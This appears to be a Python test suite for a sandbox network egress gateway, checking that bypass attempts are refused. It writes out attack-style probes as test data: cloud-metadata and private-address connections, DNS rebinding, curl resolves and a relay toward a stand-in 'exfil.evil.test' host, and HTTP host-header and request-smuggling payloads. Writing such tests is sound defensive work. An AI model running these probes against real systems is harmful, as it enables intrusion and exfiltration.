"""Section G of the security reference: ways around a policy, each beside a control that shows that the probe can succeed."""

import json

from fixture import cli, http, main, wait_until
from internet import EVIL, HOSTS, METADATA, OTHER, PRIVATE, WEB
from net_case import NetCase

TCP = (
    "import socket,sys\ns=socket.create_connection((sys.argv[1],int(sys.argv[2])),4)\n"
    "s.sendall(b'GET / HTTP/1.0\\r\\nHost: '+sys.argv[1].encode()+b'\\r\\n\\r\\n')\nprint('GOT',s.recv(99))"
)
UDP = (
    "import socket,sys\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\ns.settimeout(3)\n"
    "s.sendto(b'x'*64,(sys.argv[1],int(sys.argv[2])))\nprint('GOT',s.recv(9))"
)
RAW = (
    "import socket,sys\ns=socket.create_connection((sys.argv[1],80),4)\ns.settimeout(4)\n"
    "s.sendall(sys.argv[2].encode().decode('unicode_escape').encode('latin1'))\nprint(s.recv(4096).decode('latin1'))"
)


class Addresses(NetCase):
    def assert_no_tcp(self, box, host, port=80):
        done = self.python(box, TCP, host, str(port))
        self.assertNotRegex(done["stdout"], "GOT b'(HTTP/1.. 200|ready)", f"{host}:{port} was reached")

    def assert_tcp(self, box, host, port=80):
        self.assertRegex(self.python(box, TCP, host, str(port))["stdout"], "GOT b'HTTP/1.. 200")

    def test_g01_g03_metadata_and_private_addresses_stay_closed(self):
        for policy in ("allow-all", {"subnets": {"allow": ["0.0.0.0/0", "::/0", "10.0.0.0/8", "169.254.0.0/16"]}}):
            box = self.box(policy)
            self.assert_tcp(box, WEB)
            for host in (METADATA, PRIVATE, "10.99.0.1", "fd00:ec2::254", "168.63.129.16", "100.100.100.200", "192.0.0.192",
                         "fd99::2", "metadata.google.internal", "inside.test", "::ffff:10.99.0.2", "64:ff9b::a63:2"):  # fmt: skip
                self.assert_no_tcp(box, host)
        entry = self.denial(box, address=METADATA)
        self.assertIn("link-local", entry["reason"])

    def test_g04_rebinding(self):
        box = self.box({"allow": ["rebind.test"]})
        self.addCleanup(self.internet.set_zone, HOSTS)
        self.assert_reaches(box, "http://rebind.test/")
        self.internet.set_zone({**HOSTS, "rebind.test": [PRIVATE]}, ttl=0)
        code = (
            "import urllib.request\nn=0\nfor i in range(100):\n"
            "  try: n+=b'10.99' in urllib.request.urlopen('http://rebind.test/',timeout=4).read()\n  except OSError: pass\nprint(n)"
        )
        before = len(self.internet.seen())
        self.assertEqual(self.python(box, code, timeout=120)["stdout"].strip(), "0")
        self.internet.set_zone({**HOSTS, "rebind.test": [PRIVATE]}, ttl=0)
        self.assertGreaterEqual(len(self.internet.seen()), before)

    def test_g05_g06_mixed_answers_and_aliases(self):
        box = self.box({"allow": ["mixed.test", "alias.test", "cdn.test"]})
        for _ in range(5):
            self.assert_reaches(box, "http://mixed.test/")
        self.assert_reaches(box, "https://cdn.test/")
        self.assert_no_tcp(box, "alias.test")
        answer = self.python(box, "import socket;print(socket.gethostbyname_ex('mixed.test')[2])")["stdout"]
        self.assertEqual(answer.strip(), f"['{WEB}']")

    def test_g07_own_hosts_file_is_no_way(self):
        box = self.box({"allow": ["allowed.test"]})
        box.exec("bash", "-c", f"echo '{EVIL} allowed.test' >> /etc/hosts")
        body = self.assert_reaches(box, "http://allowed.test/echo")
        self.assertEqual(json.loads(body)["host"], "allowed.test")
        self.assertNotIn(EVIL, {entry["address"] for entry in self.log(box)})

    def test_g13_g14_ipv6_and_datagrams(self):
        box = self.box({"allow": ["allowed.test"]})
        self.assert_refused(box, "-6", "https://[2606:2800:220:1::34]/")
        for port in ("443", "123", "3478", "853"):
            self.assertNotIn("GOT", self.python(box, UDP, WEB, port)["stdout"])
        self.assert_no_tcp(box, WEB, 853)
        closed = self.create()
        self.assert_refused(closed, "-6", "https://[2606:2800:220:1::34]/")

    def test_g15_no_name_leaves_before_it_is_allowed(self):
        box = self.box({"allow": ["allowed.test"]})
        look = "import socket,sys\ntry: print(socket.getaddrinfo(sys.argv[1],80)[0][4])\nexcept OSError as e: print('NO',e)"
        self.assertIn("NO", self.python(box, look, "a" * 50 + ".evil.test")["stdout"])
        self.assert_refused(box, "--resolve", f"exfil.evil.test:80:{EVIL}", "http://exfil.evil.test/")
        self.assert_refused(box, "--resolve", f"exfil.evil.test:443:{EVIL}", "https://exfil.evil.test/")
        self.assert_refused(box, "-x", f"http://{WEB}:80", "http://exfil.evil.test/")
        self.assertEqual(self.internet.asked("evil.test"), 0)
        self.assertIn("93.184", self.python(box, look, "allowed.test")["stdout"])

    def test_g17_an_address_that_was_never_answered(self):
        box = self.box({"allow": ["db.test:5432"]})
        self.assertNotIn("ready", self.python(box, TCP, WEB, "5432")["stdout"])
        read = "import socket;print(socket.create_connection(('db.test',5432),4).recv(9))"
        self.assertIn("ready", self.python(box, read)["stdout"])
        self.assert_no_tcp(box, OTHER, 5432)

    def test_d18_a_flood_of_connections(self):
        """One sandbox keeps as many as it gets; the bound is its own, and others are served."""
        code = (
            "import resource,socket,sys,time\nhard=resource.getrlimit(resource.RLIMIT_NOFILE)[1]\n"
            "resource.setrlimit(resource.RLIMIT_NOFILE,(hard,hard))\nkept=[]\nfor i in range(1500):\n"
            "  s=socket.socket()\n  s.settimeout(5)\n  try: s.connect(('allowed.test',80))\n  except OSError: continue\n"
            "  s.setblocking(False)\n  kept.append(s)\n"
            "def is_open(s):\n  try: return s.recv(1)!=b''\n  except BlockingIOError: return True\n  except OSError: return False\n"
            "end=time.monotonic()+20\nwhile time.monotonic()<end:\n  kept=[s for s in kept if is_open(s)]\n"
            "  if len(kept)<=int(sys.argv[1]): break\n"
            "print(len(kept),flush=True)\nsys.stdin.read()"
        )
        for limits, bound in (({}, 1024), ({"limits": {"connections": 2000}}, 1500)):
            box = self.box({"allow": ["allowed.test"], **limits})
            flood = box.spawn("python3", "-c", code, str(bound), stdin=True)["pid"]
            wait_until(lambda box=box, flood=flood: box.output(flood), 60, "it has what it can get")
            self.assertEqual(int(box.output(flood)), bound)
            self.assert_reaches(self.box({"allow": ["allowed.test"]}), "http://allowed.test/")
            box.delete()

    def test_g27_half_an_end_and_what_was_counted(self):
        box = self.box({"allow": ["db.test:5432"]})
        code = (
            "import socket\ns=socket.create_connection(('db.test',5432),4)\ns.sendall(b'x'*100000)\ns.shutdown(socket.SHUT_WR)\n"
            "n=0\nwhile d:=s.recv(65536): n+=len(d)\nprint(n)"
        )
        self.assertEqual(self.python(box, code)["stdout"].strip(), "100006")
        entry = wait_until(lambda: next(iter(self.log(box)), None), 10, "it is logged")
        self.assertEqual((entry["bytesSent"], entry["bytesReceived"]), (100000, 100006), entry)

    def test_g21_g22_no_way_to_the_gate_itself_or_to_this_host(self):
        box = self.box("allow-all")
        for host, port in (("10.0.2.3", 1), ("10.0.2.3", 80), ("10.99.0.1", 80)):
            self.assert_no_tcp(box, host, port)
        self.assert_tcp(box, OTHER)


class Names(NetCase):
    def test_g09_the_name_outside_is_the_name_inside(self):
        box = self.box({"allow": {"allowed.test": [{"transform": [{"headers": {"X-A": "b"}}]}], "other.test": []}})
        self.assert_reaches(box, "https://allowed.test/")
        _, _, status = self.curl(box, "-H", "Host: evil.test", "https://allowed.test/")
        self.assertEqual(status, "421")
        _, _, status = self.curl(box, "-H", "Host: other.test", "https://allowed.test/")
        self.assertEqual(status, "421")

    def test_g11_hosts_that_mean_two(self):
        box = self.box({"allow": ["allowed.test"]})
        ok = self.python(box, RAW, WEB, "GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n")["stdout"]
        self.assertIn("200 OK", ok)
        for head in (
            "GET http://evil.test/ HTTP/1.1\\r\\nHost: allowed.test",
            "GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\nHost: evil.test",
            "GET / HTTP/1.1\\r\\nHost: allowed.test@evil.test",
            "GET / HTTP/1.1\\r\\nHost: allowed.test:80@evil.test",
            "GET / HTTP/1.1\\r\\nHost: allowed.test#.evil.test",
            "GET / HTTP/1.1\\r\\nHost: allowed.test evil.test",
            "GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\tevil.test",
            "GET / HTTP/1.1\\nHost: allowed.test",
            "GET / HTTP/1.1\\r\\nHost : allowed.test",
            "POST / HTTP/1.1\\r\\nHost: allowed.test\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked",
            "CONNECT evil.test:443 HTTP/1.1\\r\\nHost: allowed.test",
        ):
            answer = self.python(box, RAW, WEB, head + "\\r\\n\\r\\n")["stdout"]
            self.assertRegex(answer, r"^HTTP/1.1 40[0-9]", head)
        self.assertEqual([line for line in self.internet.seen() if "evil" in json.dumps(line)], [])

    def test_g18_g19_g20_g26_other_ways(self):
        box = self.box({"allow": ["allowed.test"]})
        self.assert_refused(box, "--noproxy", "*", "--resolve", f"evil.test:80:{EVIL}", "http://evil.test/")
        self.assert_refused(box, "-L", "--resolve", f"evil.test:443:{EVIL}", "https://allowed.test/redirect")
        self.assertEqual(self.internet.seen("/stolen"), [])
        relay = (
            "import socket,threading\nl=socket.create_server(('127.0.0.1',3128))\nc,_=l.accept()\n"
            "h=c.recv(999).split()[1].decode().split(':')\n"
            f"u=socket.create_connection(('{EVIL}',int(h[1])),4)\n"
            "c.sendall(b'HTTP/1.1 200 ok\\r\\n\\r\\n')\n"
            "threading.Thread(target=lambda:[u.sendall(d) for d in iter(lambda:c.recv(9999),b'')],daemon=True).start()\n"
            "[c.sendall(d) for d in iter(lambda:u.recv(9999),b'')]"
        )
        box.spawn("python3", "-c", relay)
        self.assert_refused(box, "--retry", "3", "--retry-connrefused", "-x", "http://127.0.0.1:3128", "https://evil.test/")

    def test_a_body_that_nobody_read_is_no_request(self):
        """The server answers at once and hangs up: what it did not take must not be read as requests."""
        box = self.box({"allow": ["allowed.test"]})
        inner = "GET /smuggled HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n"
        send = (
            "import socket,sys\ninner=sys.argv[2].encode().decode('unicode_escape').encode()\n"
            "body=inner*(8000000//len(inner))\ns=socket.create_connection((sys.argv[1],80),8)\n"
            "s.sendall(b'POST /rejects HTTP/1.1\\r\\nHost: allowed.test\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(body))\n"
            "try:\n s.sendall(body)\n s.shutdown(1)\nexcept OSError: pass\n"
            "try:\n while s.recv(65536): pass\nexcept OSError: pass\n"
        )
        self.assertEqual(self.python(box, send, WEB, inner)["exitCode"], 0)
        self.assertEqual(len(self.internet.seen("/rejects")), 1)
        self.assertEqual(self.internet.seen("/smuggled"), [])
        self.assert_reaches(box, "http://allowed.test/smuggled")
        self.assertEqual(len(self.internet.seen("/smuggled")), 1)

    def test_what_may_not_be_repeated_is_sent_once(self):
        box = self.box({"allow": ["allowed.test"]})
        self.assert_reaches(box, "http://allowed.test/")  # leaves a connection that is used again
        _, _, status = self.curl(box, "-X", "POST", "http://allowed.test/hangs-up")
        self.assertEqual(status, "502")
        self.assertEqual(len(self.internet.seen("/hangs-up")), 1)

    def test_paths_that_can_be_read_in_two_ways(self):
        rules = [{"match": {"path": {"startsWith": "/admin"}}, "response": {"statusCode": 403, "body": "no"}}]
        box = self.box({"allow": {"allowed.test": rules, "other.test": []}})
        for path in ("/x/../admin", "//admin", "/./admin", "/%2e/admin", "/%2e%2e/admin", "/..;a/admin", "/x\\..\\admin"):
            _, body, status = self.curl(box, "--path-as-is", "http://allowed.test" + path)
            self.assertEqual(status, "400", path)
            self.assertIn("dot segments", body)
        self.assert_reaches(box, "http://allowed.test/a.b/..c/.d/")
        self.assert_reaches(box, "--path-as-is", "http://other.test/x/../y")  # no rule looks at its paths

    def test_denials_do_not_fill_the_events(self):
        box = self.box({"allow": ["allowed.test"]})
        ask = (
            "import socket\nfor i in range(300):\n try: socket.getaddrinfo('n%d.evil.test' % i, 80)\n except OSError: pass\n"
        )
        self.python(box, ask)
        self.denial(box, host="n299.evil.test")
        events = cli("events", box.id).stdout
        self.assertIn("network.denied", events)
        self.assertLess(events.count("network.denied"), 200)

    def test_tls_without_a_name_and_trace(self):
        box = self.box({"allow": ["allowed.test"]})
        self.assert_refused(box, f"https://{WEB}/")
        _, _, status = self.curl(box, "-X", "TRACE", "http://allowed.test/")
        self.assertEqual(status, "405")
        self.assertEqual(self.denial(box, protocol="tls", port=443)["rule"], "")


class Opened(NetCase):
    server_more = ("--egress-allow-private", "10.99.0.2/32")

    def test_the_operator_can_open_an_address(self):
        box = self.box({"allow": ["inside.test"]})
        self.assert_reaches(box, "http://inside.test/")
        self.assert_refused(box, f"http://{METADATA}/")
        explained = http("GET", box.path("/network/explain?url=http%3A%2F%2F127.0.0.1%2F")).json
        self.assertFalse(explained["allowed"])


if __name__ == "__main__":
    main()
